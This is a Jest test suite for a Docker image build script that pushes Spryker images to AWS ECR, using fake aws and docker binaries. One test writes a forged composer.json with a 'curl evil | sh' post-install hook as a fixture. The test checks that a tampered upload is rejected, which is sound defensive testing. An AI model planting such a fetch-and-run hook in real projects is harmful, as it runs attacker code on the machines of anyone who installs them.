/**
 * scripts/build-images.sh run for real, with fake `aws` and `docker` executables first on PATH
 * (test/build/fake-bin) that record every call and keep a fake ECR in a temporary directory.
 */
import { execFileSync } from 'child_process';
import * as fs from 'fs';
import * as os from 'os';
import * as path from 'path';
import { FAKE_BIN, runBuildScript } from './run-build-script';
import { ImagesManifest, IMAGES_VERSION } from '../../lib/contracts/images';

const REGISTRY = '123456789012.dkr.ecr.eu-central-1.amazonaws.com';
const V1 = 'a'.repeat(40);
const IMAGES = ['zed', 'yves', 'glue', 'jenkins'];
/** Like docker-sdk's `docker/sdk export images -t <tag>`: build output on stderr, "<Application> <image>" lines on stdout. */
const BUILD = [
  'docker build -t spryker_app:"$VERSION" . >&2',
  'git rev-parse HEAD > built-commit 2>/dev/null || true',
  'for app in Zed Yves Glue; do echo "$app spryker_app:$VERSION-$(echo $app | tr A-Z a-z)"; done',
  'echo "jenkins spryker_jenkins:$VERSION"',
].join('\n');

let dir: string;
let work: string;
let registry: string;
let calls: string;

beforeAll(() => {
  for (const tool of ['aws', 'docker']) fs.chmodSync(path.join(FAKE_BIN, tool), 0o755);
});

beforeEach(() => {
  dir = fs.mkdtempSync(path.join(os.tmpdir(), 'build-images-'));
  work = path.join(dir, 'src');
  registry = path.join(dir, 'registry');
  calls = path.join(dir, 'calls');
  fs.mkdirSync(work);
  for (const key of IMAGES) fs.mkdirSync(path.join(registry, `production-${key}`), { recursive: true });
  fs.writeFileSync(calls, '');
});

afterEach(() => fs.rmSync(dir, { recursive: true, force: true }));

/** Puts `{env}-{key}:{version}` into the fake ECR with a recognisable digest. */
function pushed(key: string, version: string): string {
  const digest = `sha256:${key.padEnd(64, '0')}`;
  fs.writeFileSync(path.join(registry, `production-${key}`, version), `${digest}\n`);
  return digest;
}

function run(env: Record<string, string> = {}) {
  return runBuildScript(
    { dir, work, registry, calls },
    {
      SPRYKER_ENVIRONMENT: 'production',
      VERSION: V1,
      SOURCE_VERSION: V1,
      SPRYKER_IMAGES: IMAGES.join(' '),
      ECR_REGISTRY: REGISTRY,
      LAST_BUILD_VERSION_PARAMETER: '/production/lastbuildversion',
      SPRYKER_BUILD_COMMANDS: BUILD,
      ...env,
    },
  );
}

function git(...args: string[]): string {
  return execFileSync('git', ['-c', 'user.name=t', '-c', 'user.email=t@example.com', ...args], { cwd: work, encoding: 'utf8' }).trim();
}

/** A real repository in the source directory with one commit per content; returns the commit hashes. */
function repository(...contents: string[]): string[] {
  git('init', '--quiet');
  return contents.map((content) => {
    fs.writeFileSync(path.join(work, 'file'), content);
    git('add', 'file');
    git('commit', '--quiet', '-m', content);
    return git('rev-parse', 'HEAD');
  });
}

const ecrDigest = (key: string, version = V1) => fs.readFileSync(path.join(registry, `production-${key}`, version), 'utf8').trim();

test('all images present: no build, no login, a manifest of every image by digest, lastbuildversion recorded', () => {
  const digests = Object.fromEntries(IMAGES.map((key) => [key, pushed(key, V1)]));
  const { status, calls: recorded, manifest, stderr } = run();
  expect(status).toBe(0);
  expect(stderr).toContain('nothing to build');
  expect(recorded.filter((c) => c.startsWith('docker'))).toEqual([]);
  expect(recorded).not.toContain('aws ecr get-login-password');
  expect(manifest).toEqual({
    v: IMAGES_VERSION,
    version: V1,
    images: Object.fromEntries(IMAGES.map((key) => [key, `${REGISTRY}/production-${key}@${digests[key]}`])),
  });
  // What the handlers parse it with.
  expect(ImagesManifest.parse(manifest)).toEqual(manifest);
  expect(recorded).toContain(`aws ssm put-parameter --name /production/lastbuildversion --value ${V1} --overwrite`);
});

test('one image missing: exactly that one is built, tagged and pushed; the manifest has its new digest', () => {
  for (const key of ['zed', 'glue', 'jenkins']) pushed(key, V1);
  const { status, calls: recorded, manifest } = run();
  expect(status).toBe(0);
  expect(recorded.filter((c) => c.startsWith('docker'))).toEqual([
    `docker login --username AWS --password-stdin ${REGISTRY}`,
    `docker build -t spryker_app:${V1} .`,
    `docker tag spryker_app:${V1}-yves ${REGISTRY}/production-yves:${V1}`,
    `docker push ${REGISTRY}/production-yves:${V1}`,
  ]);
  expect(manifest!.images.yves).toBe(`${REGISTRY}/production-yves@${ecrDigest('yves')}`);
  expect(manifest!.images.zed).toBe(`${REGISTRY}/production-zed@sha256:${'zed'.padEnd(64, '0')}`);
  expect(Object.keys(manifest!.images)).toEqual(IMAGES);
});

test('a failing push exits non-zero naming the image, writes no manifest and does not record the version', () => {
  for (const key of ['zed', 'yves']) pushed(key, V1);
  const { status, stderr, manifest, calls: recorded } = run({ FAKE_FAIL_PUSH: 'production-glue' });
  expect(status).not.toBe(0);
  expect(stderr).toContain(`push of image 'glue' to ${REGISTRY}/production-glue:${V1} failed`);
  expect(manifest).toBeUndefined();
  expect(recorded.some((c) => c.startsWith('aws ssm put-parameter'))).toBe(false);
});

test('a push refused because a concurrent build pushed the same tag uses the image that is there', () => {
  for (const key of ['zed', 'yves', 'glue']) pushed(key, V1);
  // The fake refuses the push, but the tag "appears" as if another build pushed it first.
  const fakeDocker = path.join(dir, 'bin');
  fs.mkdirSync(fakeDocker);
  fs.writeFileSync(
    path.join(fakeDocker, 'docker'),
    `#!/usr/bin/env bash\nif [[ "$1" == push ]]; then echo sha256:${'c'.repeat(64)} > "$FAKE_REGISTRY/production-jenkins/${V1}"; exit 1; fi\nexec ${FAKE_BIN}/docker "$@"\n`,
    { mode: 0o755 },
  );
  const { status, manifest, stderr } = run({ PATH: `${fakeDocker}:${FAKE_BIN}:${process.env.PATH}` });
  expect(status).toBe(0);
  expect(stderr).toContain("push of 'jenkins' failed, but");
  expect(manifest!.images.jenkins).toBe(`${REGISTRY}/production-jenkins@sha256:${'c'.repeat(64)}`);
});

test('a rollback to a version built before builds nothing, whatever the source holds', () => {
  const old = 'b'.repeat(40);
  for (const key of IMAGES) pushed(key, old);
  const { status, calls: recorded, manifest } = run({ VERSION: old });
  expect(status).toBe(0);
  expect(recorded.filter((c) => c.startsWith('docker'))).toEqual([]);
  expect(manifest!.version).toBe(old);
});

test('a pinned older commit whose images are missing is checked out and built', () => {
  const [older, head] = repository('one', 'two');
  const { status, stderr, manifest } = run({ VERSION: older, SOURCE_VERSION: head });
  expect(status).toBe(0);
  expect(stderr).toContain(`checking out ${older} (the source holds ${head})`);
  expect(fs.readFileSync(path.join(work, 'built-commit'), 'utf8').trim()).toBe(older);
  expect(manifest!.version).toBe(older);
});

test('a desired_version hash that does not exist fails clearly, before any build', () => {
  const [head] = repository('one');
  const missing = 'd'.repeat(40);
  const { status, stderr, calls: recorded } = run({ VERSION: missing, SOURCE_VERSION: head });
  expect(status).not.toBe(0);
  expect(stderr).toContain(`desired_version ${missing} does not exist in the repository`);
  expect(stderr).toContain('check /production/desired_version');
  expect(recorded.filter((c) => c.startsWith('docker'))).toEqual([]);
});

test('a pinned version with missing images and a source without git history fails with what to do', () => {
  const { status, stderr } = run({ VERSION: 'e'.repeat(40) });
  expect(status).not.toBe(0);
  expect(stderr).toContain('without git history: use a git source with full clone');
});

test('an image the build does not produce fails naming it and what the build printed', () => {
  for (const key of ['zed', 'yves', 'glue', 'jenkins']) pushed(key, V1);
  const { status, stderr } = run({ SPRYKER_IMAGES: 'zed yves glue jenkins frontend' });
  expect(status).not.toBe(0);
  expect(stderr).toContain('ECR repository production-frontend does not exist');
  fs.mkdirSync(path.join(registry, 'production-frontend'));
  const second = run({ SPRYKER_IMAGES: 'zed yves glue jenkins frontend' });
  expect(second.status).not.toBe(0);
  expect(second.stderr).toContain("the build printed no image for 'frontend' (it printed: zed yves glue jenkins )");
});

test("docker-sdk's application keys: a key's own line wins, other application keys take the one application image", () => {
  fs.mkdirSync(path.join(registry, 'production-backoffice'));
  const { status, calls: recorded } = run({ SPRYKER_IMAGES: 'zed backoffice jenkins' });
  expect(status).toBe(0);
  expect(recorded.filter((c) => c.startsWith('docker tag'))).toEqual([
    `docker tag spryker_app:${V1}-zed ${REGISTRY}/production-zed:${V1}`,
    // docker-sdk prints boffice_eu-style keys: backoffice has no line of its own, and all _app lines are one image.
    `docker tag spryker_app:${V1}-zed ${REGISTRY}/production-backoffice:${V1}`,
    `docker tag spryker_jenkins:${V1} ${REGISTRY}/production-jenkins:${V1}`,
  ]);
});

test('failing build commands fail the script with their exit code', () => {
  const { status, stderr, manifest } = run({ SPRYKER_BUILD_COMMANDS: 'echo building >&2; exit 3', SPRYKER_IMAGES: 'zed' });
  expect(status).not.toBe(0);
  expect(stderr).toContain('building');
  expect(stderr).toContain('the build commands failed (exit 3)');
  expect(manifest).toBeUndefined();
});

test('a VERSION that is not a full hash is refused before ECR is asked', () => {
  const { status, stderr, calls: recorded } = run({ VERSION: '3f2a9c1' });
  expect(status).not.toBe(0);
  expect(stderr).toContain("VERSION '3f2a9c1' is not a full commit hash");
  expect(recorded).toEqual([]);
});

describe('S3 source: the content identity is recorded on each image and checked before reuse', () => {
  const S3 = { SPRYKER_SOURCE_IDENTITY: 'content' };
  const identityTag = (stderr: string) => /source content identity: (\S+)/.exec(stderr)![1];
  /** Each CodeBuild run starts from a fresh checkout: drop what the last run wrote into it. */
  const freshCheckout = () => {
    for (const f of ['images.json', 'built-commit']) fs.rmSync(path.join(work, f), { force: true });
    fs.writeFileSync(calls, '');
  };

  test('a built image gets a second tag {version}.src-{content hash} on the same digest; a rerun on the same content reuses it', () => {
    fs.writeFileSync(path.join(work, 'composer.json'), '{"name": "shop"}');
    const first = run(S3);
    expect(first.status).toBe(0);
    const tag = identityTag(first.stderr);
    expect(tag).toMatch(new RegExp(`^${V1}\\.src-[0-9a-f]{40}$`));
    for (const key of IMAGES) expect(fs.readFileSync(path.join(registry, `production-${key}`, tag), 'utf8').trim()).toBe(ecrDigest(key));
    freshCheckout();
    const again = run(S3);
    expect(again.status).toBe(0);
    expect(again.calls.filter((c) => c.startsWith('docker'))).toEqual([]);
    expect(identityTag(again.stderr)).toBe(tag);
  });

  test('an upload claiming the same commit with other content: the existing image is refused, nothing is built or recorded', () => {
    fs.writeFileSync(path.join(work, 'composer.json'), '{"name": "shop"}');
    expect(run(S3).status).toBe(0);
    freshCheckout();
    fs.writeFileSync(path.join(work, 'composer.json'), '{"name": "shop", "scripts": {"post-install-cmd": "curl evil | sh"}}');
    const forged = run(S3);
    expect(forged.status).not.toBe(0);
    expect(forged.stderr).toContain(`production-zed:${V1} exists but was built from other source content than this upload`);
    expect(forged.manifest).toBeUndefined();
    expect(forged.calls.filter((c) => c.startsWith('docker') || c.startsWith('aws ssm'))).toEqual([]);
  });

  test('an image of the version that carries no identity (built from another source) is not reused', () => {
    for (const key of IMAGES) pushed(key, V1);
    const { status, stderr } = run(S3);
    expect(status).not.toBe(0);
    expect(stderr).toContain('exists but was built from other source content');
  });
});

describe('git sources: HEAD is the evidence', () => {
  test('a checkout whose HEAD is not the commit the source action reported is refused before any build', () => {
    const [c1, c2] = repository('one', 'two');
    git('checkout', '--quiet', c1);
    const { status, stderr, calls: recorded } = run({ VERSION: c2, SOURCE_VERSION: c2 });
    expect(status).not.toBe(0);
    expect(stderr).toContain(`the source checkout is at ${c1}, but the source action reported ${c2}`);
    expect(recorded.filter((c) => c.startsWith('docker'))).toEqual([]);
  });
});
